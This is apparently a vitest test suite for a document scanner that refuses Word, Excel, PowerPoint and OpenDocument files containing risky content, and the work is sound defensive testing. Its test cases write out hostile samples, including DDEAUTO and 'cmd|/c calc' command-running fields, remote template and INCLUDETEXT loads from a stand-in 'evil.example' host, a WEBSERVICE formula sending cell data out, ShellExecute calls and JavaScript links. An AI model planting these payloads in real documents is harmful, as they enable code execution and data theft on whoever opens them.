import { strToU8 } from "fflate";
import { expect, test } from "vitest";
import { lookInto } from "../../../src/media/documents/read-document.ts";
import { type Edits, officeDocument, withRelation } from "./office-document.ts";

const relations = "word/_rels/document.xml.rels";
const text = "word/document.xml";
const intoText = (xml: string) => (part: string) => part.replace("<w:body>", `<w:body>${xml}`);
const simple = (instruction: string) =>
  intoText(`<w:p><w:fldSimple w:instr="${instruction}"><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>`);
const char = (type: string) => `<w:r><w:fldChar w:fldCharType="${type}"/></w:r>`;
const instr = (piece: string) => `<w:r><w:instrText xml:space="preserve">${piece}</w:instrText></w:r>`;
const complex = (...pieces: string[]) =>
  intoText(`<w:p>${char("begin")}${pieces.join("")}${char("separate")}<w:r><w:t>x</w:t></w:r>${char("end")}</w:p>`);
const evil = "http://evil.example/x";

const macros = "has macros in it, which are programs";
const object = "has an object from another program in it, which may be a program itself";
const loading = "loads something from elsewhere when it is opened";
const broken = "cannot be opened as a document of its kind";
const unknown = (has: string) => `has ${has}, which a published document cannot have`;
const field = (name: string) => `has a field ${name}, which may load or run something`;
const formula = (name: string) => `has a formula with ${name}, which may load or run something`;

async function whatIsWrong(ending: Parameters<typeof officeDocument>[0], edits: Edits): Promise<unknown> {
  return lookInto(officeDocument(ending, edits), ending);
}

test.for<[string, Edits, string]>([
  [
    "a field that asks another program",
    { [text]: simple(" DDEAUTO c:\\\\cmd.exe &quot;/k calc&quot; ") },
    field("DDEAUTO"),
  ],
  ["such a field in small letters", { [text]: simple("dde Excel book") }, field("DDE")],
  ["a field in pieces", { [text]: complex(instr(" DD"), instr("EAUTO cmd ")) }, field("DDEAUTO")],
  [
    "a field with its name in another's",
    { [text]: complex(instr(" "), char("begin"), instr(" QUOTE 68 "), char("end"), instr(" x ")) },
    field("whose name another field gives"),
  ],
  [
    "a field in another",
    {
      [text]: complex(instr(" IF "), char("begin"), instr(` INCLUDETEXT "${evil}" `), char("end"), instr(' = 1 "a" ')),
    },
    field("INCLUDETEXT"),
  ],
  ["a picture by a field", { [text]: simple(` INCLUDEPICTURE &quot;${evil}&quot; \\d `) }, field("INCLUDEPICTURE")],
  ["a link to another file", { [text]: simple(" LINK Excel.Sheet.12 c:\\x.xlsx ") }, field("LINK")],
  ["a field that is embedded", { [text]: simple(" EMBED Package ") }, field("EMBED")],
  ["a field from a database", { [text]: simple(" DATABASE \\d x ") }, field("DATABASE")],
  ["a button for a macro", { [text]: simple(" MACROBUTTON Evil click ") }, field("MACROBUTTON")],
  ["a field of a plug-in", { [text]: simple(" ADDIN x ") }, field("ADDIN")],
  [
    "a field without a separation",
    { [text]: intoText(`<w:p>${char("begin")}${instr(" IMPORT x ")}${char("end")}</w:p>`) },
    field("IMPORT"),
  ],
  [
    "a field in a footer",
    { "word/footer9.xml": `<w:ftr xmlns:w="urn:w"><w:p><w:fldSimple w:instr="DDE x"/></w:p></w:ftr>` },
    field("DDE"),
  ],
  [
    "a field under other names",
    { [text]: (part) => part.replace("<w:body>", '<w:body><q:fldSimple xmlns:q="urn:q" q:instr="DDE x"/>') },
    field("DDE"),
  ],
  [
    "a mail merge",
    {
      "word/settings.xml": (part) =>
        part.replace(/(<w:settings[^>]*>)/, '$1<w:mailMerge><w:connectString w:val="DSN=x"/></w:mailMerge>'),
    },
    field("of a mail merge"),
  ],
  ["a picture from elsewhere", { [relations]: withRelation("image", evil, "External") }, loading],
  ["a template from elsewhere", { [relations]: withRelation("attachedTemplate", evil, "External") }, loading],
  [
    "a template on another machine",
    { [relations]: withRelation("attachedTemplate", "\\\\evil.example\\t.dotm", "External") },
    loading,
  ],
  [
    "a template by relations in capitals",
    {
      "word/_rels/settings.xml.RELS": `<Relationships>${withRelation("attachedTemplate", evil, "External")("</Relationships>")}`,
    },
    loading,
  ],
  ["a part of another document", { [relations]: withRelation("subDocument", "x.docx", "External") }, loading],
  ["a frame", { [relations]: withRelation("frame", evil, "External") }, loading],
  [
    "a source for mail merge",
    { [relations]: withRelation("mailMergeSource", "file:///c:/x.odc", "External") },
    loading,
  ],
  ["a page put in whole", { [relations]: withRelation("aFChunk", "x.html") }, object],
  ["an object", { [relations]: withRelation("oleObject", "embeddings/o.bin") }, object],
  ["a package", { [relations]: withRelation("package", "embeddings/b.xlsx") }, object],
  ["a package that nothing names", { "word/embeddings/evil.docm": strToU8("PK") }, object],
  ["a control", { [relations]: withRelation("control", "activeX/a.xml") }, object],
  ["a program", { "word/VBAPROJECT.bin": strToU8("x") }, macros],
  [
    "a program by its relation",
    { [relations]: withRelation("http://schemas.microsoft.com/office/2006/relationships/vbaProject", "x.xml") },
    macros,
  ],
  [
    "a program by its type",
    {
      "[Content_Types].xml": (part) =>
        part.replace("wordprocessingml.document.main+xml", "ms-word.document.macroEnabled.main+xml"),
    },
    macros,
  ],
  [
    "tool bars",
    { [relations]: withRelation("http://schemas.microsoft.com/office/2006/relationships/ui/extensibility", "x.xml") },
    unknown("a part of the kind extensibility"),
  ],
  [
    "an add-in from the web",
    {
      [relations]: withRelation(
        "http://schemas.microsoft.com/office/2011/relationships/webextensiontaskpanes",
        "x.xml",
      ),
    },
    unknown("a part of the kind webextensiontaskpanes"),
  ],
  [
    "a link that starts a program",
    { [relations]: withRelation("hyperlink", "ms-word:ofe|u|http://evil.example/x", "External") },
    unknown("a link to ms-word:ofe|u|http://evil.example/x"),
  ],
  [
    "a link that is a program",
    { [relations]: withRelation("hyperlink", " JavaScript:alert(1)", "External") },
    unknown("a link to  JavaScript:alert(1)"),
  ],
  ["a shape that loads", { "word/drawing9.vml": `<xml xmlns:v="urn:v"><v:imagedata src="${evil}"/></xml>` }, loading],
  ["a film", { "word/media/film.mp4": strToU8("x") }, unknown("a part word/media/film.mp4")],
  ["a program under the name of none", { "word/setup.exe": strToU8("MZ") }, unknown("a part word/setup.exe")],
  [
    "a text under the name of a picture",
    {
      "[Content_Types].xml": (part) =>
        part.replace(
          "</Types>",
          '<Override PartName="/word/evil.png" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.footer+xml"/></Types>',
        ),
    },
    unknown("a text in the part /word/evil.png"),
  ],
  ["two parts of one name", { "WORD/document.xml": "<x/>" }, broken],
  ["a document type", { "word/footer9.xml": '<!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>' }, broken],
  [
    "a text in UTF-16",
    { "word/footer9.xml": Buffer.from('\ufeff<?xml version="1.0" encoding="UTF-16"?><x/>', "utf16le") },
    broken,
  ],
  ["a text that says it is another's", { "word/footer9.xml": '<?xml version="1.0" encoding="utf-7"?><x/>' }, broken],
  ["20,000 elements in each other", { "_rels/.rels": "<a>".repeat(20_000) + "</a>".repeat(20_000) }, broken],
  ["600,000 elements in each other", { [text]: "<a>".repeat(600_000) + "</a>".repeat(600_000) }, broken],
  ["XML that breaks off", { [text]: (part) => part.slice(0, -20) }, broken],
])("refuses a Word document with %s", async ([, edits, message]) => {
  expect(await whatIsWrong("docx", edits)).toMatchObject({ message });
});

const sheet = "xl/worksheets/sheet1.xml";
const cell = (text: string) => (part: string) =>
  part.replace("<sheetData>", `<sheetData><row r="99"><c r="A99"><f>${text}</f></c></row>`);
const book = "xl/_rels/workbook.xml.rels";

test.for<[string, Edits, string]>([
  ["a function that loads", { [sheet]: cell(`_xlfn.WEBSERVICE("${evil}?"&amp;A2)`) }, formula("WEBSERVICE")],
  ["such a function in another", { [sheet]: cell(`IF(1,IMAGE("${evil}"),2)`) }, formula("IMAGE")],
  ["a function of another program", { [sheet]: cell('RTD("x",,"y")') }, formula("RTD")],
  ["a function of a library", { [sheet]: cell('CALL("shell32","ShellExecuteA","JJ")') }, formula("CALL")],
  ["a function somebody wrote", { [sheet]: cell("Evil(1)") }, formula("EVIL")],
  ["DDE", { [sheet]: cell("cmd|'/c calc'!A0") }, loading],
  [
    "a function in a name",
    {
      "xl/workbook.xml": (part) =>
        part.replace("<definedNames>", '<definedNames><definedName name="x">EXEC("calc")</definedName>'),
    },
    formula("EXEC"),
  ],
  [
    "a function in a condition",
    { [sheet]: (part) => part.replace(/<formula>[^<]*/, `<formula>WEBSERVICE("${evil}")`) },
    formula("WEBSERVICE"),
  ],
  [
    "a function in a rule",
    { [sheet]: (part) => part.replace(/<formula1>[^<]*/, `<formula1>WEBSERVICE("${evil}")`) },
    formula("WEBSERVICE"),
  ],
  ["a connection", { [book]: withRelation("connections", "connections.xml") }, loading],
  ["a query", { [book]: withRelation("queryTable", "q.xml") }, loading],
  ["a link to another book", { [book]: withRelation("externalLink", "externalLinks/e.xml") }, loading],
  ["live data", { [book]: withRelation("volatileDependencies", "v.xml") }, loading],
  ["old macros", { "xl/macrosheets/sheet1.xml": "<x/>" }, macros],
  ["a data model", { "xl/model/item.data": strToU8("x") }, unknown("a part xl/model/item.data")],
])("refuses a spreadsheet with %s", async ([, edits, message]) => {
  expect(await whatIsWrong("xlsx", edits)).toMatchObject({ message });
});

const slide = "ppt/slides/slide1.xml";
const click = (xml: string) => (part: string) =>
  part.replace(/(<p:cNvPr [^>]*?)\/?>/, `$1>${xml}</p:cNvPr>`.replace("</p:cNvPr></p:cNvPr>", "</p:cNvPr>"));

test.for<[string, Edits, string]>([
  [
    "a click that starts a program",
    { [slide]: click('<a:hlinkClick xmlns:a="urn:a" action="ppaction://program"/>') },
    unknown("an action ppaction://program"),
  ],
  [
    "a click that starts a macro",
    { [slide]: click('<a:hlinkClick xmlns:a="urn:a" action="ppaction://macro?name=x"/>') },
    unknown("an action ppaction://macro?name=x"),
  ],
  [
    "a link under the pointer",
    { [slide]: click('<a:hlinkHover xmlns:a="urn:a" xmlns:r="urn:r" r:id="r1"/>') },
    loading,
  ],
])("refuses a presentation with %s", async ([, edits, message]) => {
  expect(await whatIsWrong("pptx", edits)).toMatchObject({ message });
});

const openText = (xml: string) => ({
  "content.xml": (part: string) => part.replace("</office:text>", `${xml}</office:text>`),
});

test.for<[string, Edits, string]>([
  ["a picture from elsewhere", openText(`<draw:image xlink:href="${evil}"/>`), loading],
  ["a picture on another machine", openText('<draw:image xlink:href="//evil.example/x.png"/>'), loading],
  ["a picture beside it", openText('<draw:image xlink:href="../x.png"/>'), loading],
  [
    "a section from elsewhere",
    openText('<text:section text:name="s"><text:section-source xlink:href="x.odt"/></text:section>'),
    loading,
  ],
  ["DDE", openText('<text:dde-connection text:connection-name="x"/>'), loading],
  [
    "an event",
    openText(
      '<office:event-listeners><script:event-listener xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" script:event-name="dom:load" xlink:href="vnd.sun.star.script:x"/></office:event-listeners>',
    ),
    macros,
  ],
  ["a script", openText("<text:script>x</text:script>"), macros],
  ["a field for a macro", openText('<text:execute-macro text:name="x"/>'), field("that runs a macro")],
  ["an object", openText('<draw:object-ole xlink:href="./Object 9"/>'), object],
  ["a plug-in", openText(`<draw:plugin xlink:href="${evil}"/>`), object],
  ["an applet", openText('<draw:applet draw:code="x"/>'), macros],
  ["a frame", openText(`<draw:floating-frame xlink:href="${evil}"/>`), loading],
  ["a form", openText('<form:form xmlns:form="urn:oasis:names:tc:opendocument:xmlns:form:1.0"/>'), unknown("a form")],
  ["a data base", openText('<text:database-display text:table-name="x"/>'), loading],
  [
    "a link that is a program",
    openText('<text:a xlink:href="vnd.sun.star.script:x">x</text:a>'),
    unknown("a link to vnd.sun.star.script:x"),
  ],
  ["another vocabulary", openText('<x:y xmlns:x="urn:x"/>'), unknown("<x:y>")],
  [
    "itself loaded anew",
    {
      "meta.xml": (part) =>
        part.replace(
          "</office:meta>",
          '<meta:auto-reload xmlns:meta="urn:oasis:names:tc:opendocument:xmlns:meta:1.0"/></office:meta>',
        ),
    },
    loading,
  ],
  ["a macro", { "Basic/Standard/Module1.xml": "<x/>" }, macros],
  ["a script of its own", { "Scripts/python/x.py": strToU8("x") }, macros],
  [
    "a changed menu",
    { "Configurations2/menubar/menubar.xml": '<m:menubar xmlns:m="http://openoffice.org/2001/menu"/>' },
    unknown("<m:menubar>"),
  ],
  ["an object without a form", { "Object 7": strToU8("x") }, object],
])("refuses an OpenDocument text with %s", async ([, edits, message]) => {
  expect(await whatIsWrong("odt", edits)).toMatchObject({ message });
});

const openCell = (formula_: string) => ({
  "content.xml": (part: string) => part.replace("<table:table-cell ", `<table:table-cell table:formula="${formula_}" `),
});

test.for<[string, Edits, string]>([
  ["DDE", openCell("of:=DDE(&quot;soffice&quot;;&quot;x&quot;;&quot;y&quot;)"), formula("DDE")],
  ["a function that loads", openCell(`of:=WEBSERVICE(&quot;${evil}&quot;)`), formula("WEBSERVICE")],
  ["a sheet of another file", openCell("of:='file:///c:/x.ods'#$Sheet1.A1"), loading],
])("refuses an OpenDocument spreadsheet with %s", async ([, edits, message]) => {
  expect(await whatIsWrong("ods", edits)).toMatchObject({ message });
});
